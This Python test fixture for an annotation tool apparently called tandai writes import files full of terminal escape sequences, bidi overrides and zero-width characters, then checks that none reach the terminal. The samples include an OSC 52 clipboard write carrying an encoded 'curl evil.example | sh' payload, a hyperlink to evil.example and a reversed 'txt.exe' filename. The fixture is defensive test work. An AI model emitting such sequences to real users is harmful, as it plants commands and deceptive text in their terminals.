"""A hostile fixture: terminal escape sequences, C1 controls, bidi overrides and zero-width
characters in every field a user can import, and the check that none reaches a terminal.

``write_inputs(folder)`` writes the files (JSONL articles, Prodigy tasks, brat
standoff, a merge source database) that tandai must take in and show safely,
and beside them the ones it must refuse because an identifier (actor id,
annotator name, label) is not a valid name. ``leaks(output)`` lists what of
the fixture's sequences a terminal would have received from ``output``.
"""
from __future__ import annotations

import base64
import json
import sqlite3
from dataclasses import dataclass
from pathlib import Path

PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode("ascii")
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"  # writes the clipboard
CLEAR = "\x1b[2J"  # clears the screen
OSC8 = "\x1b]8;;http://evil.example/\x1b\\klik\x1b]8;;\x1b\\"  # a hyperlink
C1_CSI = "\x9b31m"  # CSI as one C1 character: red text on terminals that take 8-bit controls
BIDI = "\u202etxt.exe\u202c \u2066x\u2069 \u200e\u200f\u061c \u202a\u202b\u202d\u2067\u2068"
ZERO_WIDTH = "nol\u200b\u200c\u200d\u2060\ufefflebar"
HOSTILE = f"{OSC52}{CLEAR}{OSC8}{C1_CSI}{BIDI} {ZERO_WIDTH}"
HOSTILE_WORD = f"{OSC52}{CLEAR}{C1_CSI}\u202e\u200b"  # no whitespace: fits brat's one-word fields

# What must never reach the terminal (the raw bytes a terminal would obey or hide).
FORBIDDEN_CHARS = ["\x1b]52", "\x1b]8;", CLEAR, f"{PAYLOAD}\x07", "\x9b",
                   *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
                   *"\u200b\u200c\u200d\u2060\ufeff"]
FORBIDDEN = [s.encode("utf-8") for s in FORBIDDEN_CHARS]

TEXT = ("Armenia dan Azerbaijan kembali bertempur di Nagorno-Karabakh, kata Yerevan.\n\n"
        f"Catatan redaksi: {HOSTILE} selesai.")
MERGE_TEXT = f"Baku menuduh Armenia menembaki Ganja pada Minggu.\n\n{HOSTILE} tamat."


@dataclass
class Inputs:
    articles: Path  # JSONL: hostile title, source, url, meta and text
    prodigy: Path  # Prodigy tasks: hostile text, meta, attribute values (actor id and labels valid)
    brat: Path  # brat folder: hostile A value, AnnotatorNotes and N (normalisation) name
    merge_source: Path  # another tandai database: hostile titles, text, attributes
    bad_prodigy_actor: Path  # an actor_id holding escape codes: refused
    bad_brat_actor: Path  # a brat N line whose id holds escape codes: refused
    bad_scheme: Path  # a label with escape codes: refused
    bad_merge_source: Path  # an annotator named with escape codes: refused


def _word_offsets(text: str, word: str) -> tuple[int, int]:
    start = text.index(word)
    return start, start + len(word)


def prodigy_task(actor_id: str = "EVIL_PRODIGY") -> dict:
    gpe, attack = _word_offsets(TEXT, "Armenia"), _word_offsets(TEXT, "bertempur")
    spans = [
        {"start": gpe[0], "end": gpe[1], "label": "GPE", "actor_id": actor_id, "attrs": {"note": HOSTILE}},
        {"start": attack[0], "end": attack[1], "label": "ATTACK", "attrs": {"modality": "claimed", "note": HOSTILE}},
    ]
    return {"text": TEXT, "spans": spans, "answer": "accept",
            "relations": [{"head_span": spans[1], "child_span": spans[0], "label": "AGENT"}],
            "meta": {"title": f"Judul {HOSTILE}", "source": f"Sumber {HOSTILE_WORD}", "url": f"http://x/{OSC52}"}}


def brat_files(folder: Path, actor_id: str = "EVIL_BRAT") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "doc.txt").write_text(TEXT, encoding="utf-8")
    gpe, attack = _word_offsets(TEXT, "Azerbaijan"), _word_offsets(TEXT, "bertempur")
    (folder / "doc.ann").write_text(
        f"T1\tGPE {gpe[0]} {gpe[1]}\tAzerbaijan\n"
        f"T2\tATTACK {attack[0]} {attack[1]}\tbertempur\n"
        f"E1\tATTACK:T2 TARGET:T1\n"
        f"A1\tmodality E1 {HOSTILE_WORD}\n"
        f"#1\tAnnotatorNotes T1\tcatatan {HOSTILE}\n"
        f"N1\tReference T1 db:{actor_id}\tAktor {HOSTILE}\n",
        encoding="utf-8")
    return folder


def merge_source_db(path: Path) -> Path:
    """Another tandai database: carol's spans, with hostile attribute values, on an article whose title,
    outlet and text are hostile (what ``tandai merge`` brings in)."""
    from annotations.corpus import Article, import_articles
    from annotations.store import Store, document_id

    with Store(path) as store:
        import_articles(store, [Article(text=MERGE_TEXT, title=f"Gabung {HOSTILE}", source=HOSTILE_WORD)])
        doc_id = document_id(MERGE_TEXT)
        start, end = _word_offsets(MERGE_TEXT, "menuduh")
        store.add_span(doc_id, "carol", "claim", "ACCUSATION", start, end, attrs={"note": HOSTILE})
        start, end = _word_offsets(MERGE_TEXT, "Baku")
        store.add_span(doc_id, "carol", "entity", "GPE", start, end, attrs={"note": HOSTILE})
        store.set_status(doc_id, "carol", "done")
    return path


def write_inputs(folder: Path) -> Inputs:
    folder.mkdir(parents=True, exist_ok=True)
    articles = folder / "articles.jsonl"
    articles.write_text(json.dumps({
        "text": f"Berita pertama tentang gencatan senjata.\n\n{HOSTILE}", "title": f"Gencatan {HOSTILE}",
        "source": HOSTILE_WORD, "url": f"http://x/{OSC8}", "published": "2020-10-26",
        "meta": {"penulis": HOSTILE, HOSTILE_WORD: "kunci"},
    }) + "\n", encoding="utf-8")
    prodigy = folder / "tasks.jsonl"
    prodigy.write_text(json.dumps(prodigy_task()) + "\n", encoding="utf-8")
    bad_prodigy_actor = folder / "bad_actor.jsonl"
    bad_prodigy_actor.write_text(json.dumps(prodigy_task(actor_id=OSC52 + CLEAR)) + "\n", encoding="utf-8")
    bad_scheme = folder / "bad_scheme.toml"
    bad_scheme.write_text('[layers.entity]\nlabels = ["PER", "\\u001b]52;c;%s\\u0007"]\n' % PAYLOAD, encoding="utf-8")
    merge_source = merge_source_db(folder / "other.db")
    bad_merge_source = merge_source_db(folder / "bad_other.db")
    rename_annotator(bad_merge_source, "carol", f"carol{OSC52}")
    return Inputs(articles=articles, prodigy=prodigy, brat=brat_files(folder / "brat"), merge_source=merge_source,
                  bad_prodigy_actor=bad_prodigy_actor, bad_brat_actor=brat_files(folder / "bad_brat", HOSTILE_WORD),
                  bad_scheme=bad_scheme, bad_merge_source=bad_merge_source)


def rename_annotator(db: Path, old: str, new: str) -> None:
    """What a database written before names were checked can hold: an annotator named ``new``.

    Written with plain SQL because tandai itself now refuses such a name; no Store is open here.
    """
    conn = sqlite3.connect(str(db))
    try:
        with conn:
            conn.execute("INSERT INTO annotators(name, kind, added_at) SELECT ?, kind, added_at FROM annotators"
                         " WHERE name = ?", (new, old))
            for table in ("spans", "links", "progress", "verdicts"):
                conn.execute(f"UPDATE {table} SET annotator = ? WHERE annotator = ?", (new, old))
            conn.execute("DELETE FROM annotators WHERE name = ?", (old,))
    finally:
        conn.close()


def set_actor_id(db: Path, old: str, new: str) -> None:
    """Give an actor (and the spans linked to it) the id ``new``, as an old database may have it."""
    conn = sqlite3.connect(str(db))
    try:
        with conn:
            conn.execute("UPDATE actors SET id = ? WHERE id = ?", (new, old))
            conn.execute("UPDATE spans SET actor_id = ? WHERE actor_id = ?", (new, old))
    finally:
        conn.close()


def leaks(output: bytes | str) -> list[str]:
    """The fixture's sequences found in ``output`` (what a terminal would have obeyed or hidden)."""
    data = output.encode("utf-8", "surrogateescape") if isinstance(output, str) else output
    return [repr(chars) for chars, raw in zip(FORBIDDEN_CHARS, FORBIDDEN) if raw in data]
